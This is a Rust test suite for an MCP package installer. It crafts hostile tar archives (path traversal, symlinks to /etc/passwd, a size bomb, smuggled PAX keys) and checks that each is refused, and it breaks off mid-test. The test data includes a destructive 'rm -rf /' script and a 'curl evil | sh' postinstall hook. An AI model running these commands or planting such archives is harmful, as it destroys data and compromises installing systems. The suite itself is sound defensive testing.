//! The adversarial archive suite of the MCP package installer: hostile and malformed archives,
//! built byte by byte here, each refused with its named reason, with nothing published and
//! nothing written outside the staging directory (which is removed); and good archives that
//! install, with unsafe mode bits dropped.

use std::collections::BTreeSet;
use std::io::Write;
use std::path::Path;
use std::path::PathBuf;

use computer_agent::mcp::archive::Limits;
use computer_agent::mcp::install::InstallError;
use computer_agent::mcp::install::Manifest;
use computer_agent::mcp::install::install;
use sha2::Digest;

/// A tar writer that can also write what no honest tar writer would.
#[derive(Default)]
struct Tar {
    out: Vec<u8>,
}

struct Head<'a> {
    name: &'a str,
    kind: u8,
    size: u64,
    mode: u32,
    link: &'a str,
    magic: &'a [u8; 8],
    size_field: Option<&'a str>,
}

const USTAR: &[u8; 8] = b"ustar\x0000";
const GNU: &[u8; 8] = b"ustar  \x00";

impl<'a> Head<'a> {
    fn file(name: &'a str, size: u64) -> Self {
        Head { name, kind: b'0', size, mode: 0o644, link: "", magic: USTAR, size_field: None }
    }
}

fn header_bytes(h: &Head, name_bytes: &[u8]) -> [u8; 512] {
    let mut b = [0u8; 512];
    b[..name_bytes.len().min(100)].copy_from_slice(&name_bytes[..name_bytes.len().min(100)]);
    b[100..108].copy_from_slice(format!("{:07o}\0", h.mode).as_bytes());
    b[108..116].copy_from_slice(b"0001750\0");
    b[116..124].copy_from_slice(b"0001750\0");
    let size = h.size_field.map(|s| format!("{s:\0<12}")).unwrap_or_else(|| format!("{:011o}\0", h.size));
    b[124..136].copy_from_slice(&size.as_bytes()[..12]);
    b[136..148].copy_from_slice(b"14712345670\0");
    b[156] = h.kind;
    b[157..157 + h.link.len()].copy_from_slice(h.link.as_bytes());
    b[257..265].copy_from_slice(h.magic);
    b[148..156].copy_from_slice(b"        ");
    let sum: u32 = b.iter().map(|x| u32::from(*x)).sum();
    b[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    b
}

impl Tar {
    fn raw_entry(&mut self, h: &Head, name: &[u8], data: &[u8]) -> &mut Self {
        self.out.extend_from_slice(&header_bytes(h, name));
        self.out.extend_from_slice(data);
        self.out.resize(self.out.len().div_ceil(512) * 512, 0);
        self
    }
    fn entry(&mut self, h: Head, data: &[u8]) -> &mut Self {
        let name = h.name.as_bytes().to_vec();
        self.raw_entry(&h, &name, data)
    }
    fn file(&mut self, name: &str, data: &[u8]) -> &mut Self {
        self.entry(Head::file(name, data.len() as u64), data)
    }
    fn dir(&mut self, name: &str) -> &mut Self {
        self.entry(Head { kind: b'5', mode: 0o755, ..Head::file(name, 0) }, b"")
    }
    fn pax(&mut self, kind: u8, records: &[(&str, &str)]) -> &mut Self {
        let records: Vec<(&[u8], &[u8])> = records.iter().map(|(k, v)| (k.as_bytes(), v.as_bytes())).collect();
        self.pax_bytes(kind, &records)
    }
    /// A PAX header whose keys and values are any bytes (a binary xattr, a name that is not UTF-8).
    fn pax_bytes(&mut self, kind: u8, records: &[(&[u8], &[u8])]) -> &mut Self {
        let mut data = Vec::new();
        for (k, v) in records {
            let mut body = b" ".to_vec();
            body.extend_from_slice(k);
            body.push(b'=');
            body.extend_from_slice(v);
            body.push(b'\n');
            let mut len = body.len() + 1;
            while len.to_string().len() + body.len() != len {
                len += 1;
            }
            data.extend_from_slice(len.to_string().as_bytes());
            data.extend_from_slice(&body);
        }
        self.entry(Head { kind, ..Head::file("././@PaxHeader", data.len() as u64) }, &data.clone())
    }
    fn end(&mut self) -> Vec<u8> {
        self.out.extend_from_slice(&[0u8; 1024]);
        self.out.clone()
    }
}

fn gz(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).expect("gz");
    e.finish().expect("gz")
}

fn sha(data: &[u8]) -> String {
    hex::encode(sha2::Sha256::digest(data))
}

/// Everything under `root`, as relative paths (directories end with `/`).
fn tree(root: &Path) -> BTreeSet<String> {
    fn walk(root: &Path, dir: &Path, out: &mut BTreeSet<String>) {
        for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            let p = e.path();
            let rel = p.strip_prefix(root).expect("under root").to_string_lossy().into_owned();
            if e.file_type().is_ok_and(|t| t.is_dir()) {
                out.insert(format!("{rel}/"));
                walk(root, &p, out);
            } else {
                out.insert(rel);
            }
        }
    }
    let mut out = BTreeSet::new();
    walk(root, root, &mut out);
    out
}

struct Bed {
    root: tempfile::TempDir,
}

impl Bed {
    fn new() -> Self {
        let root = tempfile::tempdir().expect("tempdir");
        std::fs::create_dir_all(root.path().join("workspace/uploads")).expect("workspace");
        std::fs::create_dir_all(root.path().join("runtime")).expect("runtime");
        Bed { root }
    }
    fn runtime(&self) -> PathBuf {
        self.root.path().join("runtime")
    }
    fn put(&self, bytes: &[u8]) -> String {
        std::fs::write(self.root.path().join("workspace/uploads/pkg.tar.gz"), bytes).expect("write");
        "uploads/pkg.tar.gz".into()
    }
    fn manifest(&self, bytes: &[u8], entrypoint: &[&str]) -> Manifest {
        Manifest {
            id: "example.mcp.server".into(),
            version: "1.0.0".into(),
            sha256: sha(bytes),
            entrypoint: entrypoint.iter().map(|s| s.to_string()).collect(),
            share_immutable_package: true,
        }
    }
    fn install(&self, bytes: &[u8]) -> Result<computer_agent::mcp::install::Installed, InstallError> {
        let artifact = self.put(bytes);
        let m = self.manifest(bytes, &["python3", "./server.py"]);
        install(&self.root.path().join("workspace"), &artifact, &m, &self.runtime(), &Limits::default())
    }
}

/// Installs `bytes` and expects `reason`; then checks that nothing was published or left, and
/// that nothing appeared anywhere but the runtime's (now empty) staging directory. Answers the
/// error's message.
fn refused(case: &str, bytes: Vec<u8>, reason: &str) -> String {
    let bed = Bed::new();
    let before = tree(bed.root.path());
    let err = bed.install(&bytes).map(|_| ()).expect_err(case);
    assert_eq!(err.reason(), reason, "{case}: {err}");
    let after: BTreeSet<String> = tree(bed.root.path())
        .into_iter()
        .filter(|p| p != "workspace/uploads/pkg.tar.gz" && p != "runtime/staging/")
        .collect();
    assert_eq!(after, before, "{case}: nothing written outside staging, staging removed");
    err.to_string()
}

fn ok_tar() -> Tar {
    let mut t = Tar::default();
    t.dir("pkg/").file("server.py", b"print('hi')\n");
    t
}

#[test]
fn hostile_archives_are_refused_with_their_reason() {
    let big_zero = vec![0u8; (32 << 20) + 1];
    let mut cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("absolute path", gz(&ok_tar().file("/etc/evil", b"x").end()), "absolute_path"),
        ("dot-dot", gz(&ok_tar().file("../evil", b"x").end()), "path_escape"),
        ("dot-dot inside", gz(&ok_tar().file("a/../../evil", b"x").end()), "path_escape"),
        (
            "PAX path escape",
            gz(&ok_tar().pax(b'x', &[("path", "../evil")]).file("fine.txt", b"x").end()),
            "path_escape",
        ),
        (
            "PAX absolute path",
            gz(&ok_tar().pax(b'x', &[("path", "/tmp/evil")]).file("fine.txt", b"x").end()),
            "absolute_path",
        ),
        (
            "ustar prefix escape",
            {
                let mut t = ok_tar();
                let h = Head::file("evil", 1);
                let mut b = header_bytes(&h, b"evil");
                b[345..347].copy_from_slice(b"..");
                b[148..156].copy_from_slice(b"        ");
                let sum: u32 = b.iter().map(|x| u32::from(*x)).sum();
                b[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
                t.out.extend_from_slice(&b);
                t.out.extend_from_slice(&[b'x'; 512]);
                gz(&t.end())
            },
            "path_escape",
        ),
        (
            "GNU long name escape",
            {
                let mut t = ok_tar();
                let name = b"../../evil\0";
                t.entry(Head { kind: b'L', magic: GNU, ..Head::file("././@LongLink", name.len() as u64) }, name);
                t.entry(Head { magic: GNU, ..Head::file("short", 1) }, b"x");
                gz(&t.end())
            },
            "path_escape",
        ),
        (
            "symlink",
            gz(&ok_tar().entry(Head { kind: b'2', link: "/etc/passwd", ..Head::file("link", 0) }, b"").end()),
            "symlink",
        ),
        (
            "hardlink",
            gz(&ok_tar().entry(Head { kind: b'1', link: "server.py", ..Head::file("hard", 0) }, b"").end()),
            "hardlink",
        ),
        ("char device", gz(&ok_tar().entry(Head { kind: b'3', ..Head::file("tty", 0) }, b"").end()), "special_file"),
        ("block device", gz(&ok_tar().entry(Head { kind: b'4', ..Head::file("sda", 0) }, b"").end()), "special_file"),
        ("fifo", gz(&ok_tar().entry(Head { kind: b'6', ..Head::file("pipe", 0) }, b"").end()), "special_file"),
        (
            "GNU sparse",
            gz(&ok_tar().entry(Head { kind: b'S', magic: GNU, ..Head::file("holes", 0) }, b"").end()),
            "sparse_file",
        ),
        (
            "PAX sparse",
            gz(&ok_tar().pax(b'x', &[("GNU.sparse.major", "1"), ("GNU.sparse.minor", "0")]).file("holes", b"x").end()),
            "sparse_file",
        ),
        (
            "unknown type",
            gz(&ok_tar().entry(Head { kind: b'Z', ..Head::file("zzz", 0) }, b"").end()),
            "unknown_entry_type",
        ),
        (
            "PAX size conflict",
            gz(&ok_tar().pax(b'x', &[("size", "10")]).file("five.txt", b"12345").end()),
            "pax_size_conflict",
        ),
        ("duplicate", gz(&ok_tar().file("a.txt", b"1").file("a.txt", b"2").end()), "name_collision"),
        ("case collision", gz(&ok_tar().file("Readme.md", b"1").file("README.md", b"2").end()), "case_collision"),
        ("file under a file", gz(&ok_tar().file("lib", b"1").file("lib/mod.py", b"2").end()), "name_collision"),
        ("file over a directory", gz(&ok_tar().dir("data/").file("data", b"2").end()), "name_collision"),
        (
            "case collision with a parent",
            gz(&ok_tar().file("Lib/a.py", b"1").file("lib/b.py", b"2").end()),
            "case_collision",
        ),
        (
            "bad checksum",
            {
                let mut t = ok_tar().file("x.txt", b"x").end();
                t[1536 + 148] = b'7';
                gz(&t)
            },
            "malformed_header",
        ),
        (
            "size not octal",
            gz(&ok_tar().entry(Head { size_field: Some("9z9"), ..Head::file("x", 0) }, b"").end()),
            "malformed_header",
        ),
        (
            "base-256 size",
            {
                let mut t = ok_tar();
                let mut b = header_bytes(&Head::file("huge", 0), b"huge");
                b[124] = 0x80;
                b[148..156].copy_from_slice(b"        ");
                let sum: u32 = b.iter().map(|x| u32::from(*x)).sum();
                b[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
                t.out.extend_from_slice(&b);
                gz(&t.end())
            },
            "malformed_header",
        ),
        (
            "no ustar magic",
            gz(&ok_tar().entry(Head { magic: b"V7tar\x00\x00\x00", ..Head::file("old", 1) }, b"x").end()),
            "malformed_header",
        ),
        (
            "malformed PAX record",
            {
                let mut t = ok_tar();
                let data = b"99 path=x\n";
                t.entry(Head { kind: b'x', ..Head::file("././@PaxHeader", data.len() as u64) }, data);
                t.file("x", b"x");
                gz(&t.end())
            },
            "malformed_header",
        ),
        ("PAX header with no member", gz(&ok_tar().pax(b'x', &[("mtime", "1")]).end()), "malformed_header"),
        (
            "global header with a path",
            gz(&ok_tar().pax(b'g', &[("path", "evil")]).file("x", b"x").end()),
            "global_header",
        ),
        (
            "directory with contents",
            gz(&ok_tar().entry(Head { kind: b'5', ..Head::file("d/", 3) }, b"abc").end()),
            "malformed_header",
        ),
        (
            "truncated in a file",
            {
                let mut t = ok_tar().file("big.bin", &[7u8; 4096]).end();
                t.truncate(1536 + 1000);
                gz(&t)
            },
            "truncated",
        ),
        (
            "truncated in a header",
            {
                let mut t = ok_tar().file("x", b"x").end();
                t.truncate(1024 + 200);
                gz(&t)
            },
            "truncated",
        ),
        ("no end marker", gz(&ok_tar().file("x", b"x").out), "truncated"),
        (
            "data after the end marker",
            {
                let mut t = ok_tar().end();
                t.extend_from_slice(&header_bytes(&Head::file("hidden", 0), b"hidden"));
                gz(&t)
            },
            "trailing_data",
        ),
        (
            "garbage after the gzip stream",
            {
                let mut g = gz(&ok_tar().end());
                g.extend_from_slice(b"garbage");
                g
            },
            "trailing_data",
        ),
        (
            "a second gzip member",
            {
                let mut g = gz(&ok_tar().end());
                g.extend_from_slice(&gz(&Tar::default().file("sneaky", b"x").end()));
                g
            },
            "trailing_data",
        ),
        (
            "gzip CRC mismatch",
            {
                let mut g = gz(&ok_tar().file("x.txt", &[1u8; 20000]).end());
                let crc = g.len() - 8;
                g[crc] ^= 0xff;
                g
            },
            "bad_compression",
        ),
        (
            "damaged deflate data",
            {
                let mut g = gz(&ok_tar().file("x.txt", &[1u8; 20000]).end());
                g[12] ^= 0xff;
                g
            },
            "bad_compression",
        ),
        ("size bomb", gz(&ok_tar().file("zeros", &big_zero).end()), "unpacked_too_large"),
        (
            "too many members",
            {
                let mut t = ok_tar();
                for i in 0..520 {
                    t.file(&format!("f{i}"), b"");
                }
                gz(&t.end())
            },
            "too_many_members",
        ),
        (
            "name not UTF-8",
            {
                let mut t = ok_tar();
                t.raw_entry(&Head::file("", 1), b"bad\xff\xfe", b"x");
                gz(&t.end())
            },
            "bad_name",
        ),
        ("control character in a name", gz(&ok_tar().file("bell\u{7}.txt", b"x").end()), "bad_name"),
        ("empty component", gz(&ok_tar().file("a//b", b"x").end()), "bad_name"),
        ("name too long", gz(&ok_tar().pax(b'x', &[("path", &"n".repeat(300))]).file("x", b"x").end()), "bad_name"),
    ];
    // Not tar at all, and not gzip: read as tar, it has no valid header.
    cases.push(("not an archive", b"#!/bin/sh\nrm -rf /\n".repeat(40), "malformed_header"));
    assert!(cases.len() >= 30, "{} cases", cases.len());
    for (case, bytes, reason) in cases {
        refused(case, bytes, reason);
    }
}

/// Issue 36, item 7: a symlink at any step of `artifactPath` (a directory above the file, or
/// the file) is not followed, and the answer is the same as for a missing file: it tells nothing
/// of what the link points at (here a root-only directory holding an archive that would install).
#[test]
fn i36_7_a_symlink_in_the_artifact_path_is_never_followed() {
    let bed = Bed::new();
    let good = gz(&ok_tar().end());
    let ws = bed.root.path().join("workspace");
    let lim = Limits::default();
    let hidden = bed.root.path().join("root-only");
    std::fs::create_dir_all(&hidden).expect("dir");
    std::fs::write(hidden.join("secret.tar.gz"), &good).expect("secret");
    std::fs::set_permissions(&hidden, std::os::unix::fs::PermissionsExt::from_mode(0o700)).expect("chmod");
    std::os::unix::fs::symlink(&hidden, ws.join("linked")).expect("dir link");
    std::os::unix::fs::symlink(hidden.join("secret.tar.gz"), ws.join("file-link.tar.gz")).expect("file link");
    let said = |artifact: &str| {
        let m = bed.manifest(&good, &["python3", "./server.py"]);
        match install(&ws, artifact, &m, &bed.runtime(), &lim) {
            Err(e) => (e.reason(), e.to_string().replace(artifact, "<path>")),
            Ok(_) => panic!("{artifact} was installed"),
        }
    };
    let missing = said("nowhere/secret.tar.gz");
    assert_eq!(missing.0, "bad_artifact_path");
    for linked in ["linked/secret.tar.gz", "file-link.tar.gz", "linked/none.tar.gz", "./linked/secret.tar.gz"] {
        assert_eq!(said(linked), missing, "{linked}");
    }
}

#[test]
fn install_checks_the_artifact_the_digest_and_the_entrypoint() {
    let bed = Bed::new();
    let good = gz(&ok_tar().end());
    let ws = bed.root.path().join("workspace");
    let lim = Limits::default();
    // Too large, before anything is read further.
    let big: Vec<u8> = (0..(8 << 20) + 1).map(|i: u32| (i.wrapping_mul(2_654_435_761) >> 7) as u8).collect();
    let a = bed.put(&big);
    let r = install(&ws, &a, &bed.manifest(&big, &["python3", "./server.py"]), &bed.runtime(), &lim);
    assert_eq!(r.map(|_| ()).map_err(|e| e.reason()), Err("archive_too_large"));
    // The digest is checked before decompression.
    let a = bed.put(&good);
    let mut m = bed.manifest(&good, &["python3", "./server.py"]);
    m.sha256 = sha(b"something else");
    assert_eq!(install(&ws, &a, &m, &bed.runtime(), &lim).map(|_| ()).map_err(|e| e.reason()), Err("digest_mismatch"));
    // Paths out of the workspace.
    for bad in ["../etc/passwd", "/etc/passwd", ""] {
        let m = bed.manifest(&good, &["python3", "./server.py"]);
        let r = install(&ws, bad, &m, &bed.runtime(), &lim);
        assert_eq!(r.map(|_| ()).map_err(|e| e.reason()), Err("bad_artifact_path"), "{bad:?}");
    }
    // An entrypoint file that is not in the package.
    let m = bed.manifest(&good, &["python3", "./missing.py"]);
    let r = install(&ws, &a, &m, &bed.runtime(), &lim);
    assert_eq!(r.map(|_| ()).map_err(|e| e.reason()), Err("missing_entrypoint"));
    // Unknown manifest fields (hooks, permissions) are refused.
    let v = serde_json::json!({"id": "x", "version": "1", "sha256": sha(&good), "entrypoint": ["python3"],
        "share_immutable_package": true, "hooks": {"postinstall": "curl evil | sh"}});
    assert_eq!(Manifest::parse(&v).map(|_| ()).map_err(|e| e.reason()), Err("bad_manifest"));
    let v = serde_json::json!({"id": "x", "version": "1", "sha256": sha(&good), "entrypoint": ["ruby", "s.rb"],
        "share_immutable_package": true});
    let m = Manifest::parse(&v).expect("parses");
    let r = install(&ws, &a, &m, &bed.runtime(), &lim);
    assert_eq!(r.map(|_| ()).map_err(|e| e.reason()), Err("bad_manifest"), "only known interpreters or ./files");
    assert!(tree(&bed.runtime()).iter().all(|p| p == "staging/"), "nothing published: {:?}", tree(&bed.runtime()));
}

#[test]
fn a_good_package_installs_once_with_safe_modes() {
    let bed = Bed::new();
    let mut t = ok_tar();
    t.entry(Head { mode: 0o4777, ..Head::file("bin/tool", 4) }, b"#!x\n");
    t.pax(
        b'x',
        &[("path", "docs/a-very-long-name-".repeat(8).as_str()), ("mtime", "1.5"), ("SCHILY.xattr.user.x", "1")],
    );
    t.file("ignored-name", b"doc");
    let bytes = gz(&t.end());
    let done = bed.install(&bytes).expect("installs");
    assert!(done.new);
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(done.dir.join("bin/tool")).expect("tool").permissions().mode() & 0o7777;
    assert_eq!(mode, 0o755, "setuid and world-write dropped");
    assert!(done.dir.join("docs/a-very-long-name-".repeat(8)).is_file(), "the PAX path wins");
    assert_eq!(done.files.len(), 3);
    let again = bed.install(&bytes).expect("the same package again");
    assert!(!again.new, "installing the same digest twice changes nothing");
    // The same version with other bytes is refused.
    let other = gz(&ok_tar().file("extra", b"1").end());
    assert_eq!(bed.install(&other).map(|_| ()).map_err(|e| e.reason()), Err("version_exists"));
}

/// Runs the real `tar` with `args`; answers what it wrote to stdout (`-f -`).
fn real_tar(args: &[&str], dir: &Path) -> Vec<u8> {
    let out = std::process::Command::new("tar")
        .arg("-C")
        .arg(dir)
        .args(args)
        .output()
        .expect("run tar (GNU tar is needed by this suite)");
    assert!(out.status.success(), "tar {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    out.stdout
}

/// A small package tree: a server, a module, an empty directory and a nested file.
fn package_tree(dir: &Path) {
    std::fs::create_dir_all(dir.join("lib/data")).expect("lib/data");
    std::fs::create_dir_all(dir.join("docs/deeper")).expect("docs/deeper");
    std::fs::write(dir.join("server.py"), b"print('hi')\n").expect("server.py");
    std::fs::write(dir.join("lib/util.py"), b"X = 1\n").expect("util.py");
    std::fs::write(dir.join("docs/deeper/notes.txt"), b"notes\n").expect("notes");
}

/// The files of a tree with their contents (directories with none).
fn contents(root: &Path) -> Vec<(String, Option<Vec<u8>>)> {
    tree(root)
        .into_iter()
        .map(|p| {
            let data = if p.ends_with('/') { None } else { Some(std::fs::read(root.join(&p)).expect("read")) };
            (p, data)
        })
        .collect()
}

#[test]
fn what_real_tar_writes_for_a_directory_installs() {
    let src = tempfile::tempdir().expect("tempdir");
    package_tree(src.path());
    // GNU tar's own format, PAX (a header with mtime, atime and ctime per member) and ustar.
    for format in ["gnu", "posix", "ustar"] {
        let bytes = real_tar(&["--format", format, "-czf", "-", "."], src.path());
        let plain = {
            use std::io::Read;
            let mut d = flate2::read::GzDecoder::new(&bytes[..]);
            let mut v = Vec::new();
            d.read_to_end(&mut v).expect("gunzip");
            v
        };
        assert_eq!(&plain[..2], b"./", "{format}: tar wrote the root as ./ first (or its PAX header)");
        let bed = Bed::new();
        let done = bed.install(&bytes).unwrap_or_else(|e| panic!("{format}: {e} ({})", e.reason()));
        assert!(done.new);
        assert_eq!(contents(&done.dir), contents(src.path()), "{format}: the same tree, the same bytes");
        let files: BTreeSet<String> = done.files.iter().cloned().collect();
        let want: BTreeSet<String> =
            ["server.py", "lib/util.py", "docs/deeper/notes.txt"].iter().map(|s| s.to_string()).collect();
        assert_eq!(files, want, "{format}: files named without ./");
    }
}

#[test]
fn root_and_dot_slash_entries_mean_what_tar_means() {
    let mut t = Tar::default();
    t.dir("./")
        .dir(".")
        .dir("./sub/")
        .dir("./bare")
        .file("./server.py", b"print('hi')\n")
        .file("./sub/mod.py", b"m")
        .entry(Head { kind: b'0', ..Head::file("./empty/", 0) }, b"");
    let bed = Bed::new();
    let done = bed.install(&gz(&t.end())).expect("installs");
    let got = tree(&done.dir);
    let want: BTreeSet<String> =
        ["bare/", "empty/", "server.py", "sub/", "sub/mod.py"].iter().map(|s| s.to_string()).collect();
    assert_eq!(got, want, "./ and . are the root; ./sub and ./sub/ are directories; ./file is file");
    assert_eq!(std::fs::read(done.dir.join("sub/mod.py")).expect("mod.py"), b"m");
}

#[test]
fn dot_slash_names_still_refuse_escapes_and_the_root_as_a_file() {
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("./ then ..", gz(&ok_tar().file("./../evil", b"x").end()), "path_escape"),
        ("./ dir then ..", gz(&ok_tar().dir("./../evil/").end()), "path_escape"),
        (
            "./ then an absolute PAX path",
            gz(&ok_tar().pax(b'x', &[("path", "/etc/x")]).file("./f", b"x").end()),
            "absolute_path",
        ),
        ("the root as a file", gz(&ok_tar().file(".", b"x").end()), "bad_name"),
        ("the root as an empty file", gz(&ok_tar().file(".", b"").end()), "bad_name"),
        (
            "./ with contents",
            gz(&ok_tar().entry(Head { kind: b'5', ..Head::file("./", 3) }, b"abc").end()),
            "malformed_header",
        ),
        ("./. is not the root", gz(&ok_tar().dir("./.").end()), "bad_name"),
        ("a file over ./sub", gz(&ok_tar().dir("./sub").file("sub", b"x").end()), "name_collision"),
    ];
    for (case, bytes, reason) in cases {
        refused(case, bytes, reason);
    }
}

/// `getxattr(path, name)`: the value, or `None` when the file has no such attribute.
fn xattr(path: &Path, name: &str) -> Option<Vec<u8>> {
    use std::os::unix::ffi::OsStrExt;
    let p = std::ffi::CString::new(path.as_os_str().as_bytes()).expect("path");
    let n = std::ffi::CString::new(name).expect("name");
    let mut buf = vec![0u8; 256];
    // SAFETY: both strings are NUL-terminated and live across the call; buf is buf.len() bytes.
    let got = unsafe { libc::getxattr(p.as_ptr(), n.as_ptr(), buf.as_mut_ptr().cast(), buf.len()) };
    if got < 0 {
        let e = std::io::Error::last_os_error();
        assert_eq!(e.raw_os_error(), Some(libc::ENODATA), "getxattr {}: {e}", path.display());
        return None;
    }
    buf.truncate(got as usize);
    Some(buf)
}

#[test]
fn a_binary_xattr_from_real_tar_is_dropped() {
    // A value that is not UTF-8, with a NUL, a newline and an '=' in it.
    const VALUE: &[u8] = b"\xff\xfe\x00\x80\n=x";
    let src = tempfile::tempdir().expect("tempdir");
    package_tree(src.path());
    let server = src.path().join("server.py");
    {
        use std::os::unix::ffi::OsStrExt;
        let p = std::ffi::CString::new(server.as_os_str().as_bytes()).expect("path");
        // SAFETY: NUL-terminated strings and a VALUE.len()-byte buffer, all alive across the call.
        let rc = unsafe { libc::setxattr(p.as_ptr(), c"user.bin".as_ptr(), VALUE.as_ptr().cast(), VALUE.len(), 0) };
        // No silent skip: this suite needs a file system with user xattrs for its temp dir.
        assert_eq!(rc, 0, "setxattr user.bin on {}: {}", server.display(), std::io::Error::last_os_error());
    }
    assert_eq!(xattr(&server, "user.bin").as_deref(), Some(VALUE));
    let bytes = real_tar(&["--xattrs", "--xattrs-include=*", "-czf", "-", "."], src.path());
    let plain = {
        use std::io::Read;
        let mut d = flate2::read::GzDecoder::new(&bytes[..]);
        let mut v = Vec::new();
        d.read_to_end(&mut v).expect("gunzip");
        v
    };
    let record = [b"SCHILY.xattr.user.bin=".as_slice(), VALUE, b"\n"].concat();
    assert!(plain.windows(record.len()).any(|w| w == record), "tar wrote the binary xattr as a PAX record");
    let bed = Bed::new();
    let done = bed.install(&bytes).unwrap_or_else(|e| panic!("{e} ({})", e.reason()));
    assert_eq!(contents(&done.dir), contents(src.path()));
    assert_eq!(xattr(&done.dir.join("server.py"), "user.bin"), None, "the xattr is dropped");
}

#[test]
fn crafted_binary_xattrs_and_harmless_keys_are_accepted() {
    let mut t = ok_tar();
    // As GNU tar and libarchive write them: a raw binary value (a file capability), a key whose
    // attribute name is not UTF-8, libarchive's base64 form, binary owner names (hdrcharset=BINARY)
    // and the bookkeeping keys of star and libarchive.
    t.pax_bytes(
        b'x',
        &[
            (b"path", b"bin/tool"),
            (b"SCHILY.xattr.security.capability", b"\x01\x00\x00\x02\x00\x20\x00\x00\x00\x00\x00\x00\xff\xfe"),
            (b"SCHILY.xattr.user.\xff\xfe", b"\x00"),
            (b"LIBARCHIVE.xattr.user.x", b"/w=="),
            (b"hdrcharset", b"BINARY"),
            (b"uname", b"\xe9l\xe8ve"),
            (b"gname", b"\xff"),
            (b"uid", b"1000"),
            (b"gid", b"1000"),
            (b"mtime", b"1700000000.5"),
            (b"atime", b"1700000000.5"),
            (b"ctime", b"1700000000.5"),
            (b"comment", b"\x80"),
            (b"charset", b"ISO-IR 646 1990"),
            (b"SCHILY.dev", b"2049"),
            (b"SCHILY.ino", b"1234"),
            (b"SCHILY.nlink", b"1"),
            (b"SCHILY.fflags", b"nodump"),
            (b"SCHILY.acl.access", b"user::rwx,group::r-x,other::r-x"),
            (b"LIBARCHIVE.creationtime", b"1700000000"),
            (b"RHT.security.selinux", b"system_u:object_r:bin_t:s0"),
            (b"size", b"4"),
        ],
    );
    t.file("ignored", b"#!x\n");
    let bed = Bed::new();
    let done = bed.install(&gz(&t.end())).unwrap_or_else(|e| panic!("{e} ({})", e.reason()));
    let tool = done.dir.join("bin/tool");
    assert_eq!(std::fs::read(&tool).expect("tool"), b"#!x\n", "the PAX path is applied");
    assert_eq!(xattr(&tool, "user.x"), None, "xattrs are dropped");
    assert_eq!(tree(&done.dir).len(), 4, "pkg/, server.py, bin/, bin/tool: {:?}", tree(&done.dir));
}

#[test]
fn pax_keys_that_change_what_is_extracted_are_refused_by_name() {
    let cases: Vec<(&str, Vec<u8>, &str, &str)> = vec![
        (
            "linkpath on a regular file",
            gz(&ok_tar().pax(b'x', &[("linkpath", "/etc/passwd")]).file("passwd", b"").end()),
            "unsupported_pax_key",
            "\"linkpath\"",
        ),
        (
            "linkpath on a directory",
            gz(&ok_tar().pax(b'x', &[("linkpath", "/etc")]).dir("etc/").end()),
            "unsupported_pax_key",
            "\"linkpath\"",
        ),
        (
            "linkpath on a symlink is refused as the link",
            gz(&ok_tar()
                .pax(b'x', &[("linkpath", "/etc/passwd")])
                .entry(Head { kind: b'2', ..Head::file("link", 0) }, b"")
                .end()),
            "symlink",
            "link",
        ),
        (
            "star's file type",
            gz(&ok_tar().pax(b'x', &[("SCHILY.filetype", "socket")]).file("sock", b"").end()),
            "unsupported_pax_key",
            "SCHILY.filetype",
        ),
        (
            "an unknown key among harmless ones",
            gz(&ok_tar().pax(b'x', &[("mtime", "1"), ("GNU.dumpdir", "Nevil"), ("uid", "0")]).dir("d/").end()),
            "unsupported_pax_key",
            "GNU.dumpdir",
        ),
        (
            "a multi-volume offset",
            gz(&ok_tar().pax(b'x', &[("GNU.volume.offset", "512")]).file("part", b"x").end()),
            "unsupported_pax_key",
            "GNU.volume.offset",
        ),
        (
            "a reserved namespace",
            gz(&ok_tar().pax(b'x', &[("realtime.x", "1")]).file("f", b"x").end()),
            "unsupported_pax_key",
            "realtime.x",
        ),
        (
            "PAX sparse names the key",
            gz(&ok_tar().pax(b'x', &[("GNU.sparse.realsize", "1048576")]).file("holes", b"x").end()),
            "sparse_file",
            "GNU.sparse.realsize",
        ),
        (
            "a binary value where text is needed",
            gz(&ok_tar().pax_bytes(b'x', &[(b"path", b"bad\xff")]).file("f", b"x").end()),
            "bad_name",
            "PAX path",
        ),
        (
            "a binary PAX size",
            gz(&ok_tar().pax_bytes(b'x', &[(b"size", b"\xff")]).file("f", b"x").end()),
            "malformed_header",
            "size",
        ),
        (
            "a key that is not UTF-8",
            gz(&ok_tar().pax_bytes(b'x', &[(b"pa\xffth", b"x")]).file("f", b"x").end()),
            "malformed_header",
            "key",
        ),
        (
            "an xattr in a global header",
            gz(&ok_tar().pax_bytes(b'g', &[(b"SCHILY.xattr.user.x", b"\xff")]).file("f", b"x").end()),
            "global_header",
            "global",
        ),
    ];
    for (case, bytes, reason, needle) in cases {
        let message = refused(case, bytes, reason);
        assert!(message.contains(needle), "{case}: {message:?} names {needle:?}");
    }
}

#[test]
fn paths_deeper_than_the_limit_are_refused() {
    use computer_agent::mcp::archive::MAX_DEPTH;
    assert_eq!(MAX_DEPTH, 32);
    let at_limit = format!("{}f", "d/".repeat(MAX_DEPTH - 1));
    let bed = Bed::new();
    let done = bed.install(&gz(&ok_tar().file(&at_limit, b"x").end())).expect("32 components install");
    assert!(done.dir.join(&at_limit).is_file());
    let over = format!("{}f", "d/".repeat(MAX_DEPTH));
    let message = refused("33 components", gz(&ok_tar().file(&over, b"x").end()), "path_too_deep");
    assert!(message.contains("deeper than 32"), "{message}");
    let over_dir = format!("./{}", "d/".repeat(MAX_DEPTH + 1));
    refused("a deep directory, ./ first", gz(&ok_tar().dir(&over_dir).end()), "path_too_deep");
    let long = format!("{}f", "d/".repeat(200));
    refused("a deep PAX path", gz(&ok_tar().pax(b'x', &[("path", &long)]).file("x", b"x").end()), "path_too_deep");
}

#[test]
fn implied_parents_count_toward_the_member_limit() {
    // 20 headers; each file implies 31 directories of its own: 2 + 20 * 32 = 642 paths > 512.
    let mut t = ok_tar();
    for i in 0..20 {
        t.file(&format!("t{i}/{}f", "d/".repeat(30)), b"");
    }
    let message = refused("implied parents", gz(&t.end()), "too_many_members");
    assert!(message.contains("512"), "{message}");

